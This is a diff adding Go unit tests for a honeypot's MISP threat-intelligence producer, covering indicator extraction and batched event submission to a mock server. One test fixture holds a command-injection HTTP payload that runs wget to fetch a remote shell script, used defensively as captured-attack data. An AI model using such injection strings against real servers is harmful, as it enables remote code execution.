@@ -0,0 +1,69 @@
+package producer
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/spf13/viper"
+	"github.com/stretchr/testify/require"
+)
+
+func TestMISPIndicators(t *testing.T) {
+	hash := "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824"
+	attrs := mispIndicators(&Event{
+		SrcHost: "1.2.3.4",
+		Handler: "http",
+		DstPort: 80,
+		Payload: base64.StdEncoding.EncodeToString([]byte("GET /?x=;wget http://5.6.7.8/x.sh; HTTP/1.1")),
+		Decoded: map[string]any{"save": map[string]string{"payload_hash": hash}},
+	})
+	values := map[string]string{}
+	for _, attr := range attrs {
+		values[attr.Type] = attr.Value
+		require.Equal(t, "http on port 80", attr.Comment)
+	}
+	require.Equal(t, map[string]string{"ip-src": "1.2.3.4", "url": "http://5.6.7.8/x.sh", "sha256": hash}, values)
+}
+
+func TestMISPClient(t *testing.T) {
+	var mu sync.Mutex
+	paths := []string{}
+	release := make(chan struct{})
+	svr := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		<-release
+		require.Equal(t, "secret", r.Header.Get("Authorization"))
+		mu.Lock()
+		paths = append(paths, r.URL.Path)
+		mu.Unlock()
+		if r.URL.Path == "/events/add" {
+			var body map[string]map[string]any
+			require.NoError(t, json.NewDecoder(r.Body).Decode(&body))
+			require.Equal(t, "glutton sensor test 2024-03-09", body["Event"]["info"])
+			_, _ = w.Write([]byte(`{"Event":{"id":"42"}}`))
+		}
+	}))
+	defer svr.Close()
+	viper.Set("producers.misp.url", svr.URL)
+	viper.Set("producers.misp.key", "secret")
+	viper.Set("producers.misp.batch_size", 2)
+	viper.Set("producers.misp.queue_size", 10)
+
+	// handlers do not wait for MISP
+	m := newMISPClient(http.DefaultClient, "test", slog.Default())
+	ts := time.Date(2024, 3, 9, 12, 0, 0, 0, time.UTC)
+	started := time.Now()
+	require.NoError(t, m.enqueue(&Event{Timestamp: ts, SrcHost: "1.2.3.4"}))
+	require.NoError(t, m.enqueue(&Event{Timestamp: ts, SrcHost: "1.2.3.4"}))
+	require.NoError(t, m.enqueue(&Event{Timestamp: ts, SrcHost: "1.2.3.5"}))
+	require.NoError(t, m.enqueue(&Event{Timestamp: ts, SrcHost: "10.0.0.1"}))
+	require.Less(t, time.Since(started), 500*time.Millisecond)
+	close(release)
+	m.close()
+	require.Equal(t, []string{"/events/add", "/attributes/add/42", "/attributes/add/42"}, paths)
+}